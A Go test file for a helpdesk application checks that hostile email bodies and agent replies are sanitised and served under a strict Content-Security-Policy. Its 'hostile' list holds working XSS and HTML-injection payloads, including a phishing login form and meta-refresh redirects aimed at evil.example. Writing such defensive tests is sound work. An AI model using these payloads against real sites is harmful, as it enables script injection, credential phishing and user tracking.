package desk_test

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/helpwright/helpwright/helpdesk"
)

// hostile are bodies that want more than to be read.
var hostile = []string{
	`<script>alert(1)</script>Hello`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>`,
	`<a href="javascript:alert(1)">click</a><a href=" &#106;avascript:alert(1)">click</a>`,
	`<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">`,
	`<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
	`</div></li></ol></main><script>alert(1)</script><h1>Owned</h1>`,
	`</template><script>alert(1)</script>`,
	`</title></textarea></select></style></noscript><img src=x onerror=alert(1)>`,
	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example"; * { display: none }</style>`,
	`<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">Sign in again</div>`,
	`<table width="600" bgcolor="#fff"><tr><td style="background:red;width:expression(alert(1))"><img src="https://evil.example/pixel.gif"></td></tr></table>`,
	`<table width="600"><tr><td style="color:red}</style><script>alert(1)</script>">x</td></tr></table>`,
	`<p style="font-family:'</style><script>alert(1)</script>'">x</p>`,
	`<div id="composer">Mine</div><div id="toast">Mine</div><ol id="thread"></ol>`,
	`<input type="hidden" name="nonce" value="1"><textarea name="body">Send this</textarea>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<a href="//evil.example" target=_self ping="https://evil.example">x</a>`,
	strings.Repeat("<div>", 3000) + "deep" + strings.Repeat("</b>", 3000),
	"<!--><script>alert(1)</script>-->",
	`<button formaction="https://evil.example" data-key="e" data-swap="main">x</button><template data-swap="main"><script>alert(1)</script></template>`,
}

// Nothing in a mail is executed, sends requests, or breaks out of its box, on the page of the conversation and in the frame
// of a designed mail.
func TestHostileMails(t *testing.T) {
	t.Parallel()
	for n, body := range hostile {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			t.Parallel()
			b := newBundle(t, nil)
			b.asks("Eve <eve@evil.example>", `</title><script>alert(1)</script> "><img src=x onerror=alert(1)>`, "Hello. "+body)
			page := b.get("/c/1")
			tree := parse(t, page.body)
			inspect(t, tree, "script[desk.js] input form button")
			if got := find(tree, "id", "composer"); len(got) != 1 || len(find(got[0], "name", "nonce")) != 1 {
				t.Errorf("the composer is not whole: %d", len(got))
			}
			list := parse(t, b.get("/inbox/all").body)
			inspect(t, list, "script[desk.js] input form button")
			parts := b.get("/c/1", "Desk-Target", "thread head").body
			if strings.Count(parts, "<template ") != 2 || strings.Count(parts, "</template>") != 2 {
				t.Error("the parts are not whole")
			}
			frame := b.get("/c/1/i/1/body")
			inspect(t, parse(t, frame.body), "style[nonce]")
			if policy := frame.header.Get("Content-Security-Policy"); !strings.Contains(policy, "default-src 'none'") || !strings.Contains(policy, "sandbox") ||
				strings.Contains(policy, "script") || strings.Contains(policy, "unsafe") {
				t.Error(policy)
			}
			if policy := page.header.Get("Content-Security-Policy"); strings.Contains(policy, "unsafe") {
				t.Error(policy)
			}
		})
	}
}

func parse(t *testing.T, text string) *html.Node {
	t.Helper()
	tree, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return tree
}

// ownScript are the desk's own scripts.
var ownScript = regexp.MustCompile(`^/desk/assets/(desk|dialog|picker)\.[0-9a-f]+\.js$`)

// inspect looks for forbidden content on a page. allowed lists content of the page itself.
func inspect(t *testing.T, tree *html.Node, allowed string) {
	t.Helper()
	for n := range tree.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script":
			if !strings.Contains(allowed, "script[desk.js]") || !ownScript.MatchString(attribute(n, "src")) {
				t.Errorf("a script: %v", n.Attr)
			}
		case "style":
			if !strings.Contains(allowed, "style[nonce]") || attribute(n, "nonce") == "" || strings.Contains(n.FirstChild.Data, "evil.example") {
				t.Errorf("a style sheet: %v", n.FirstChild)
			}
		case "iframe":
			if !strings.HasPrefix(attribute(n, "src"), "/desk/a/1/c/1/i/") || strings.Contains(attribute(n, "sandbox"), "allow-scripts") {
				t.Errorf("a frame: %v", n.Attr)
			}
		case "form":
			if to := attribute(n, "action"); to != "" && !strings.HasPrefix(to, "/desk/") {
				t.Errorf("a form: %v", n.Attr)
			}
		case "object", "embed", "math", "animate", "link", "meta", "base":
			if n.Data == "base" && attribute(n, "href") == "" || strings.Contains("link meta", n.Data) && !strings.Contains(fmt.Sprint(n.Attr), "evil") && attribute(n, "http-equiv") == "" {
				continue
			}
			t.Errorf("an element %s: %v", n.Data, n.Attr)
		}
		for _, a := range n.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "ping", a.Key == "formaction" && !strings.HasPrefix(a.Val, "/desk/"):
				t.Errorf("%s has %s=%q", n.Data, a.Key, a.Val)
			case a.Key == "src" && !strings.HasPrefix(a.Val, "/desk/") && !strings.HasPrefix(a.Val, "data:"):
				t.Errorf("%s asks for %q", n.Data, a.Val)
			case a.Key == "href":
				if u, err := url.Parse(strings.TrimSpace(a.Val)); err != nil || strings.EqualFold(u.Scheme, "javascript") {
					t.Errorf("a link to %q", a.Val)
				}
			}
		}
	}
}

func attribute(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func find(tree *html.Node, key, value string) []*html.Node {
	var found []*html.Node
	for n := range tree.Descendants() {
		if n.Type == html.ElementNode && attribute(n, key) == value {
			found = append(found, n)
		}
	}
	return found
}

// Text pasted by an agent is cleaned on the server, too.
func TestHostileReplies(t *testing.T) {
	t.Parallel()
	b := newBundle(t, nil)
	b.asks("ada@example.com", "The door", "It is stuck.")
	for n, body := range hostile {
		form := url.Values{"kind": {"note"}, "rich": {"1"}, "html": {body}, "nonce": {fmt.Sprint(n)}}
		if got := b.post("/c/1/send", form); got.status != http.StatusSeeOther && got.status != http.StatusUnprocessableEntity {
			t.Errorf("%d: status %d", n, got.status)
		}
	}
	inspect(t, parse(t, b.get("/c/1?all=1").body), "script[desk.js]")
	if _, err := b.desk.Interactions().Create(t.Context(), 1, helpdesk.InteractionInput{Type: helpdesk.TypeUser, Status: helpdesk.StatusDraft, Body: strings.Join(hostile, "")}); err != nil {
		t.Fatal(err)
	}
	inspect(t, parse(t, b.get("/c/1").body), "script[desk.js]")
}

// Images on other servers are blocked until they are requested, and then only those of that mail are loaded.
func TestRemoteImages(t *testing.T) {
	t.Parallel()
	b := newBundle(t, nil)
	b.asks("ada@example.com", "The door", `Look: <img src="https://one.example/1.png">`)
	if _, err := b.desk.Interactions().Create(t.Context(), 1, helpdesk.InteractionInput{Type: helpdesk.TypeCustomer, Body: `And: <img src="https://two.example/2.png">`}); err != nil {
		t.Fatal(err)
	}
	for query, want := range map[string]int{"": 0, "?images=1": 1, "?images=2": 1, "?images=99": 0, "?images=x": 0} {
		page := b.get("/c/1" + query).body
		if got := strings.Count(page, `src="/desk/a/1/image/`); got != want {
			t.Errorf("%q: %d images of other servers, want %d", query, got, want)
		}
		if got := strings.Count(page, "remote image"); got != 2-want {
			t.Errorf("%q: %d notices, want %d", query, got, 2-want)
		}
	}
}
